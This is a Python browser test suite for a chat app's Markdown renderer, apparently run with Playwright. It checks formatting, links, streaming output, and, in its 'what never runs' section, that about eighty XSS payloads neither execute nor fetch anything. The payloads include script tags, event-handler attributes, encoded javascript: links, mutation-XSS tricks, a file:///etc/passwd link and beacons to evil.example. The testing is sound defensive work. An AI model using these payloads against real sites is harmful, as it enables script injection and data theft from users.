"""A model's Markdown in a browser, under the app's own policy: what it shows, what never runs."""

from __future__ import annotations

import pytest

from tests.browser.conftest import Ground

pytestmark = pytest.mark.asyncio(loop_scope="session")

SHOW = """async ([text, options]) => {
  const { MarkdownView } = await import("/app/markdown.js");
  const root = document.getElementById("root");
  root.replaceChildren();
  new MarkdownView(root).render(text, options ?? {});
  return root.innerHTML;
}"""


async def show(ground: Ground, text: str) -> str:
    return str(await ground.page.evaluate(SHOW, [text, None]))


# what it shows


SHOWN = {
    "a **b** *c* ~~d~~ `e`": (
        '<p dir="auto">a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>'
    ),
    "# 标题\n文字": '<h2 class="md-h1" dir="auto">标题</h2><p dir="auto">文字</p>',
    "一\n二": '<p dir="auto">一<br>二</p>',
    "3. a\n4. b": '<ol start="3"><li dir="auto">a</li><li dir="auto">b</li></ol>',
    "> a": '<blockquote><p dir="auto">a</p></blockquote>',
    "---": "<hr>",
    "1 < 2 & 3 &lt; &#x41;": '<p dir="auto">1 &lt; 2 &amp; 3 &lt; A</p>',
    "<b>a</b>": '<p dir="auto">&lt;b&gt;a&lt;/b&gt;</p>',
    "|a|b|\n|:-|-:|\n|1|2|": (
        '<div class="md-table" tabindex="0"><table><thead><tr><th dir="auto" class="md-left">a</th>'
        '<th dir="auto" class="md-right">b</th></tr></thead><tbody><tr>'
        '<td dir="auto" class="md-left">1</td><td dir="auto" class="md-right">2</td></tr>'
        "</tbody></table></div>"
    ),
    "```nothing\na  <b\n```": (
        '<pre class="md-code" tabindex="0" data-language="nothing"><code>a  &lt;b\n</code></pre>'
    ),
    "see main.py": '<p dir="auto">see main.py</p>',
    "": "",
}


async def test_what_people_write_is_shown(ground: Ground) -> None:
    for text, expected in SHOWN.items():
        assert await show(ground, text) == expected, text
    assert ground.trouble == []


async def test_links_open_apart_and_say_where_they_lead(ground: Ground) -> None:
    await show(ground, "[a](https://a.example/x) https://b.example [m](mailto:a@b.example)")
    links = await ground.page.evaluate("""() => [...document.querySelectorAll("#root a")].map(
      (a) => [a.getAttribute("href"), a.title, a.target, a.rel])""")
    apart = ["_blank", "noopener noreferrer nofollow"]
    addresses = ["https://a.example/x", "https://b.example/", "mailto:a@b.example"]
    assert links == [[address, address, *apart] for address in addresses]


async def test_pictures_are_named_and_not_fetched(ground: Ground) -> None:
    text = "![a cat](https://pictures.example/cat.png?secret) ![](https://pictures.example/x)"
    await show(ground, text)
    assert await ground.page.locator("#root img").count() == 0
    assert await ground.page.locator("#root a.md-image").all_inner_texts() == ["a cat", "image"]
    assert (ground.trouble, ground.foreign) == ([], [])


async def test_code_gets_colours_when_its_language_has_come(ground: Ground) -> None:
    await show(ground, '```html\n<script>let a = "<b>";</script>\n```\n\n```py\ndef f(): pass\n```')
    await ground.page.wait_for_selector("#root .language-javascript .hljs-keyword")
    await ground.page.wait_for_selector("#root [data-language=py] .hljs-keyword")
    texts = await ground.page.locator("#root pre").all_text_contents()
    assert texts == ['<script>let a = "<b>";</script>\n', "def f(): pass\n"]
    assert await ground.page.locator("#root script, #root b").count() == 0
    assert (ground.trouble, ground.foreign) == ([], [])


async def test_every_language_there_is_can_be_coloured(ground: Ground) -> None:
    missing = await ground.page.evaluate("""async () => {
      const { load, languageOf, highlight } = await import("/app/highlight.js");
      const names = `bash c cpp csharp css diff dockerfile go ini java javascript json kotlin lua
        makefile markdown php python ruby rust sql swift typescript xml yaml`.split(/\\s+/);
      const text = 'class A { "b" /* c */ 1 } <a href="x">';
      const failed = [];
      for (const name of names) {
        const code = document.createElement("code");
        const there = languageOf(name) === name && (await load(name));
        if (there) highlight(code, text, name);
        if (code.textContent !== text) failed.push(name);
      }
      return failed;
    }""")
    assert missing == []
    assert ground.trouble == []


# texts that grow


STREAM = """async ([text, step]) => {
  const { MarkdownView } = await import("/app/markdown.js");
  const { load } = await import("/app/highlight.js");
  const [grown, whole] = [document.createElement("div"), document.createElement("div")];
  document.getElementById("root").replaceChildren(grown, whole);
  const view = new MarkdownView(grown);
  for (let end = 1; end < text.length; end += step) {
    view.render(text.slice(0, end), { done: false });
  }
  view.render(text, { done: true });
  const plain = new MarkdownView(whole);
  plain.render(text);
  // Each colours itself when its language has come; they asked before us, so they go first.
  await Promise.all(["python", "javascript"].map(load));
  await new Promise((resolve) => setTimeout(resolve));
  view.render(text);
  plain.render(text);
  return [grown.innerHTML, whole.innerHTML];
}"""

LONG_TEXT = """# 你好

A [link][1] and *words* that
go on.

- one
- two

  more of two
  ```python
  def f(x):
      return x
  ```
- three

| a | b |
|---|---|
| 1 | 2 |

```js
// a comment
let 名字 = `text ${1 + 2}`;
```

    indented

> quoted
> - list

Setext
===

1. a
2. b

[1]: https://late.example/definition
"""


@pytest.mark.parametrize("step", [1, 7])
async def test_a_text_that_grew_looks_like_one_that_came_whole(ground: Ground, step: int) -> None:
    text = LONG_TEXT + "\n```py\n" + "x = 'long'  # code\n" * (300 if step == 7 else 3) + "```\nend"
    grown, whole = await ground.page.evaluate(STREAM, [text, step])
    assert grown == whole
    assert 'href="https://late.example/definition"' in grown
    assert "hljs-string" in grown
    assert ground.trouble == []


async def test_what_does_not_change_stays_the_same_element(ground: Ground) -> None:
    same = await ground.page.evaluate("""async () => {
      const { MarkdownView } = await import("/app/markdown.js");
      const root = document.getElementById("root");
      const view = new MarkdownView(root);
      view.render("first\\n\\n```txt\\ncode", { done: false });
      const [first, pre] = root.children;
      view.render("first\\n\\n```txt\\ncode and more\\nof it", { done: false });
      return [first === root.children[0], pre === root.children[1], pre.textContent];
    }""")
    assert same == [True, True, "code and more\nof it"]


async def test_a_block_of_code_can_be_framed_and_still_grows(ground: Ground) -> None:
    seen = await ground.page.evaluate("""async () => {
      const { MarkdownView } = await import("/app/markdown.js");
      const root = document.getElementById("root");
      const frames = [];
      const frameCode = (block, language, text) => {
        const frame = document.createElement("figure");
        frame.append(block);
        frames.push({ language, text });
        return frame;
      };
      const view = new MarkdownView(root, { frameCode });
      view.render("```txt\\ncode", { done: false });
      const [figure] = root.children;
      view.render("```txt\\ncode and more", { done: false });
      view.render("```txt\\ncode and more\\n```", { done: false });
      return [figure === root.children[0], figure.textContent,
        frames.map(({ language, text }) => [language, text()])];
    }""")
    assert seen == [True, "code and more\n", [["txt", "code and more\n"]]]


async def test_a_text_may_become_another(ground: Ground) -> None:
    seen = await ground.page.evaluate("""async () => {
      const { MarkdownView, MAX_MARKDOWN } = await import("/app/markdown.js");
      const root = document.getElementById("root");
      const view = new MarkdownView(root);
      const seen = [];
      for (const text of ["a\\n\\nb\\n\\nc", "a\\n\\nx", "```js\\n1", "```css\\n1", "",
          "*" + "z".repeat(MAX_MARKDOWN), "*end*"]) {
        view.render(text);
        seen.push(`${root.children.length} ${root.textContent.slice(0, 9)}`);
      }
      return seen;
    }""")
    assert seen == ["3 abc", "2 ax", "1 1", "1 1", "0 ", "1 *zzzzzzzz", "1 end"]


async def test_a_long_answer_is_drawn_in_steps_that_touch_only_its_end(ground: Ground) -> None:
    changed = await ground.page.evaluate("""async () => {
      const { MarkdownView } = await import("/app/markdown.js");
      const root = document.getElementById("root");
      const view = new MarkdownView(root);
      const text = "Some **words** and `code`, 以及中文。\\n\\n- a\\n- b\\n\\n".repeat(1200);
      view.render(text, { done: false });
      const seen = new MutationObserver(() => {});
      seen.observe(root, { childList: true, subtree: true, characterData: true });
      view.render(text + "one more", { done: false });
      const records = seen.takeRecords();
      return [text.length > 45_000, root.children.length, records.length];
    }""")
    assert changed[0]
    assert changed[1] >= 2000
    assert changed[2] <= 4


# what never runs


RUN = "globalThis.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script src=https://evil.example/x.js></script><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;">',
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y)}</style>",
    '<p style="background:url(https://evil.example/z)">x</p>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;&#x61;vascript&colon;{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](java&NewLine;script:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/v1/users/me)",
    "[x](https://parlance.example@evil.example/)",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'<https://a.example/" onmouseover="{RUN}>',
    f'https://a.example/"onmouseover={RUN}//',
    f"[x](https://a.example 'y\" onmouseover=\"{RUN}')",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f'![" onerror="{RUN}](https://evil.example/a.png)',
    "![x](https://evil.example/pixel.gif?q=secret)",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"**[x](javascript:{RUN})** ~~<b onclick={RUN}>~~",
    f"> - 1. [x](javascript:{RUN})\n> - <img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>\n\n|a|\n|-|\n|<img src=x onerror={RUN}>|",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<img src=x onerror={RUN}><script>{RUN}</script>\n```",
    f'```"><img/src=x/onerror={RUN}>\ncode\n```',
    f"```js onload={RUN} style=background:url(https://evil.example/c)\ncode\n```",
    f"~~~<script>{RUN}</script>\n~~~",
    f'|a|\n|:-:"onclick={RUN}|\n|b|',
    f'1. a\n2" onclick={RUN}. b',
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\\<script>{RUN}\\</script>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"＜script＞{RUN}＜/script＞ <ſcript>{RUN}</ſcript>",
    f"<a\u2028href='javascript:{RUN}'>x</a>",
    f"<x id=body name=body><form id=root name=cookie><input name=attributes> {RUN}",
    "[__proto__]: https://a.example\n[constructor]: https://a.example\n[__proto__] [constructor]",
    ">" * 5000 + "x",
    "[" * 5000 + "x" + "](javascript:0)" * 50,
    "*_" * 5000,
)

INSPECT = """(allowed) => {
  const root = document.getElementById("root");
  const faults = [];
  for (const element of root.querySelectorAll("*")) {
    const tag = element.localName;
    if (!allowed.includes(tag)) faults.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      const fine = ["href", "title", "target", "rel", "class", "dir", "start", "tabindex",
        "data-language"].includes(name);
      if (!fine) faults.push(`${tag} ${name}`);
      const url = name === "href" ? new URL(value, "relative:x") : null;
      if (url && !["http:", "https:", "mailto:"].includes(url.protocol)) faults.push(value);
      if (url && (url.username || value.startsWith("/"))) faults.push(value);
    }
    // Whatever the pointer and the keyboard can set off is set off.
    for (const kind of ["mouseover", "focus", "load", "error", "toggle"]) {
      element.dispatchEvent(new Event(kind));
    }
  }
  return faults;
}"""

ALLOWED = [
    *("a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li"),
    *("ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
]


async def test_nothing_in_a_text_runs_or_is_fetched(ground: Ground) -> None:
    for payload in PAYLOADS:
        for text in (payload, f"before {payload} after", f"- a\n\n  {payload}\n"):
            await ground.page.evaluate(SHOW, [text, {"done": len(text) % 2 == 0}])
            assert await ground.page.evaluate(INSPECT, ALLOWED) == [], text
    # Late events have had their chance when these have come back.
    await ground.page.wait_for_timeout(200)
    assert await ground.page.evaluate("() => globalThis.ran") is None
    assert await ground.page.evaluate("() => location.pathname") == "/empty"
    assert await ground.page.evaluate("() => ({}).x === undefined && Object.keys({}).length") == 0
    assert (ground.trouble, ground.foreign) == ([], [])


async def test_the_ground_notices_what_gets_through(ground: Ground) -> None:
    """Were a text read as HTML, the policy would refuse it; were it not, the test above would."""
    refused = await ground.page.evaluate("""() => {
      try { document.getElementById("root").innerHTML = "<b>"; } catch { return true; }
      return false;
    }""")
    assert refused
    await ground.page.evaluate("""async () => {
      const image = document.createElement("img");
      const failed = new Promise((resolve) => (image.onerror = resolve));
      image.src = "https://evil.example/x.png";
      document.getElementById("root").append(image);
      await failed;
    }""")
    assert await ground.page.evaluate(INSPECT, ALLOWED) == ["<img>", "img src"]
    assert any("evil.example" in line for line in ground.trouble)
